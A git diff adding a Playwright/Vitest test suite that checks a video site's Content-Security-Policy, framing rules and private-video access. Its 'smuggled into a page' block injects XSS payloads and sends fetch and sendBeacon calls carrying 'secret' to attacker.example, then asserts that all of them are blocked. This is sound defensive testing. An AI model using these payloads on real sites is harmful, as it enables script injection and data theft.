@@ -1,0 +1,260 @@
+import { createServer, type Server } from "node:http";
+import type { Browser, BrowserContext, Page } from "playwright";
+import { afterAll, beforeAll, describe, expect, inject, test } from "vitest";
+import { hasEnded } from "../../shared/job/job.ts";
+import type { CreateJobResponse } from "../../shared/wire/api.ts";
+import { launchBrowser } from "../../web/headless/browser.ts";
+import { ContributorTab } from "../../web/headless/contributor-tab.ts";
+import { follow, isInspected } from "../../web/headless/follow.ts";
+import { OwnerTab } from "../../web/headless/owner-tab.ts";
+import { fixture } from "../setup/media.ts";
+
+// What the pages' headers let run, load and frame, in Chromium, of the production build.
+
+const serverUrl = inject("serverUrl");
+const TIME_LIMIT = AbortSignal.timeout(280_000);
+const quiet = (): void => {};
+
+let browser: Browser;
+let tab: OwnerTab;
+let helper: ContributorTab;
+let job: CreateJobResponse;
+let joinUrl: string;
+beforeAll(async () => {
+  browser = await launchBrowser();
+  // A source that is rewritten first: all of the workers have something to do.
+  const file = await fixture("flv-8s.flv");
+  const options = { serverUrl, engine: "auto", slots: 1, ladder: "144:140" };
+  tab = await OwnerTab.open(browser, options, quiet, async ({ page }) => watchPolicy(page));
+  await tab.pick(file);
+  expect((await follow(tab, TIME_LIMIT, quiet, isInspected)).phase).toBe("inspected");
+  await tab.visibility("private");
+  job = await tab.start();
+  ({ joinUrl } = await tab.share(job));
+  helper = await ContributorTab.open(browser, joinUrl, { slots: 1 }, quiet);
+  await helper.start();
+  const ended = await follow(tab, TIME_LIMIT, quiet, ({ phase }) => hasEnded(phase));
+  expect(ended.phase).toBe("ready");
+});
+afterAll(() => browser?.close());
+
+interface Watched {
+  violations: string[];
+  attacked?: boolean;
+}
+
+/** Keeps what the policy refuses in the page, from its start. */
+async function watchPolicy(page: Page): Promise<void> {
+  await page.addInitScript(() => {
+    const watched = globalThis as unknown as Watched;
+    watched.violations = [];
+    addEventListener("securitypolicyviolation", ({ effectiveDirective, blockedURI }) => {
+      watched.violations.push(`${effectiveDirective} ${blockedURI}`);
+    });
+  });
+}
+
+function violations(page: Page): Promise<string[]> {
+  return page.evaluate(() => (globalThis as unknown as Watched).violations);
+}
+
+/** What Chromium logs of refusals, in workers too. */
+function refusals({ log }: { log: readonly string[] }): string[] {
+  return log.filter((line) => /Content[- ]Security[- ]Policy|Permissions[- ]Policy/i.test(line));
+}
+
+/** Every page that the site has, with a person at it who made the video. */
+function paths(): string[] {
+  return [
+    "/",
+    "/videos",
+    `/watch/${job.jobId}`,
+    `/watch/${job.jobId}?embed`,
+    joinUrl.slice(serverUrl.length),
+    "/api",
+  ];
+}
+
+async function ownerContext(): Promise<BrowserContext> {
+  const context = await browser.newContext();
+  await context.addInitScript(
+    (owned) => localStorage.setItem("tributary.owned", owned),
+    JSON.stringify({ [job.jobId]: job.ownerToken }),
+  );
+  return context;
+}
+
+test("a whole job, its helper's too, meets no refusal, and no worker does", async () => {
+  expect(await violations(tab.page)).toEqual([]);
+  expect(refusals(tab)).toEqual([]);
+  expect(refusals(helper)).toEqual([]);
+});
+
+test("each page shows what it has, and meets no refusal", async () => {
+  const context = await ownerContext();
+  for (const path of paths()) {
+    const page = await context.newPage();
+    const log: string[] = [];
+    page.on("console", (message) => log.push(message.text()));
+    await watchPolicy(page);
+    await page.goto(serverUrl + path);
+    await page.waitForFunction(() => document.querySelector("#page")?.hasChildNodes());
+    if (path === "/videos") await shown(page, ".poster-frame video");
+    if (path.startsWith("/watch")) await shown(page, "video");
+    if (path === "/api")
+      await page
+        .getByRole("button", { name: /\/api\/jobs\s/ })
+        .first()
+        .waitFor();
+    expect(await violations(page), path).toEqual([]);
+    expect(refusals({ log }), path).toEqual([]);
+    await page.close();
+  }
+  await context.close();
+});
+
+/** A private video's pictures come, by its owner's token. */
+async function shown(page: Page, selector: string): Promise<void> {
+  const video = page.locator(selector).first();
+  await video.waitFor({ state: "attached" });
+  await expect
+    .poll(() => video.evaluate((each) => (each as HTMLVideoElement).readyState))
+    .toBeGreaterThan(1);
+}
+
+test("a private video is nowhere for a browser that did not make it", async () => {
+  const context = await browser.newContext();
+  const page = await context.newPage();
+  await page.goto(job.watchUrl);
+  await page.getByRole("alert").waitFor();
+  expect(await page.locator("video").count()).toBe(0);
+  await page.goto(`${serverUrl}/videos`);
+  await page.locator("main ul").waitFor({ state: "attached" });
+  expect(await page.locator(".video-card", { hasText: "flv-8s" }).count()).toBe(0);
+  await context.close();
+});
+
+describe("what was smuggled into a page", () => {
+  const MARK = "globalThis.attacked = true";
+  /** Each kind of what would run it, as markup in the page's own file. */
+  const MARKUP = `<script>${MARK}</script>
+    <img src="/none" onerror="${MARK}">
+    <svg onload="${MARK}"></svg>
+    <script src="data:text/javascript,${MARK}"></script>
+    <script src="https://attacker.example/script.js"></script>
+    <iframe srcdoc="<script>parent.${MARK}</script>"></iframe>
+    <object data="data:text/html,<script>${MARK}</script>"></object>
+    <base href="https://attacker.example/">`;
+
+  test("does not run, in any page, and tells nobody outside", async () => {
+    const context = await ownerContext();
+    for (const path of paths()) {
+      const page = await context.newPage();
+      await watchPolicy(page);
+      const outside: string[] = [];
+      page.on("request", (request) => {
+        if (new URL(request.url()).hostname.endsWith("attacker.example"))
+          outside.push(request.url());
+      });
+      await page.route(serverUrl + path.split("#")[0], async (route) => {
+        const response = await route.fetch();
+        const body = (await response.text()).replace("<body>", `<body>${MARKUP}`);
+        await route.fulfill({ response, body });
+      });
+      await page.goto(serverUrl + path);
+      // Scripts of the page itself can still be injected into, after it was loaded.
+      await page.evaluate((mark) => {
+        const later = document.createElement("div");
+        later.innerHTML = `<img src="/none" onerror="${mark}"><a href="javascript:${mark}">x</a>`;
+        document.body.append(later);
+        later.querySelector("a")?.click();
+        const script = document.createElement("script");
+        script.textContent = mark;
+        document.body.append(script);
+        void fetch("https://attacker.example/?secret").catch(() => {});
+        navigator.sendBeacon("https://attacker.example/", "secret");
+      }, MARK);
+      // Two scripts, two handlers, two addresses, an object and the address for the rest; and what came later.
+      await expect
+        .poll(async () => (await violations(page)).length, { message: path })
+        .toBeGreaterThan(9);
+      const refused = (await violations(page)).map((each) => each.split(" ")[0]);
+      const kinds = ["script-src-elem", "script-src-attr", "base-uri", "object-src", "connect-src"];
+      expect(refused, path).toEqual(expect.arrayContaining(kinds));
+      expect(await page.evaluate(() => "attacked" in globalThis), path).toBe(false);
+      expect(
+        outside.filter((url) => url.includes("secret")),
+        path,
+      ).toEqual([]);
+      await page.close();
+    }
+    await context.close();
+  });
+});
+
+describe("a page of another site", () => {
+  let site: Server;
+  let siteUrl: string;
+  beforeAll(async () => {
+    site = createServer((request, response) => {
+      const framed = new URL(request.url ?? "", "http://site").searchParams.get("of") ?? "";
+      response.writeHead(200, { "content-type": "text/html" });
+      response.end(`<!doctype html><iframe src="${framed.replaceAll("&", "&amp;")}"></iframe>`);
+    });
+    await new Promise<void>((resolve) => site.listen(0, "127.0.0.1", resolve));
+    const address = site.address();
+    const port = typeof address === "object" && address !== null ? address.port : 0;
+    siteUrl = `http://127.0.0.1:${port}`;
+  });
+  afterAll(() => site?.close());
+
+  test("frames the player, and no other page", async () => {
+    const page = await browser.newPage();
+    for (const path of paths()) {
+      const framed = `${serverUrl}${path}`;
+      await page.goto(`${siteUrl}/?of=${encodeURIComponent(framed)}`);
+      const frame = page.frames().find((each) => each !== page.mainFrame());
+      // A refused frame shows an error page of the browser's own.
+      const isShown = (await frame?.evaluate(() => document.querySelector("#page"))) !== null;
+      expect(isShown, path).toBe(path.endsWith("?embed"));
+    }
+    await page.close();
+  });
+});
+
+describe("headers", () => {
+  test("pages and scripts have the policy, each of them the same but for who may frame it", async () => {
+    const policies = new Map<string, string | null>();
+    for (const path of [...paths(), "/watch", "/contribute", "/api-reference", "/favicon.svg"]) {
+      const { headers } = await fetch(serverUrl + path.split("#")[0]);
+      policies.set(path, headers.get("content-security-policy"));
+      expect(Object.fromEntries(headers), path).toMatchObject({
+        "cross-origin-opener-policy": "same-origin",
+        "permissions-policy": expect.stringContaining("camera=()"),
+        "referrer-policy": "same-origin",
+        "x-content-type-options": "nosniff",
+      });
+    }
+    const [embed] = [...policies.keys()].filter((path) => path.endsWith("?embed"));
+    const policy = policies.get("/") ?? "";
+    expect(policy).toContain("frame-ancestors 'none'");
+    expect(policy).not.toMatch(/unsafe-inline|'unsafe-eval'|\*|http/);
+    for (const [path, each] of policies) {
+      const mayBeFramed = path === embed;
+      expect(each, path).toBe(
+        mayBeFramed ? policy.replace("frame-ancestors 'none'", "frame-ancestors *") : policy,
+      );
+    }
+  });
+
+  test("what is no page can never act as one", async () => {
+    const own = { headers: { authorization: `Bearer ${job.ownerToken}` } };
+    for (const path of [`/v/${job.jobId}/master.m3u8`, "/api/videos", "/api/nothing", "/v/none"]) {
+      const { headers } = await fetch(serverUrl + path, own);
+      expect(Object.fromEntries(headers), path).toMatchObject({
+        "content-security-policy": "default-src 'none'; frame-ancestors 'none'",
+        "x-content-type-options": "nosniff",
+      });
+    }
+  });
+});
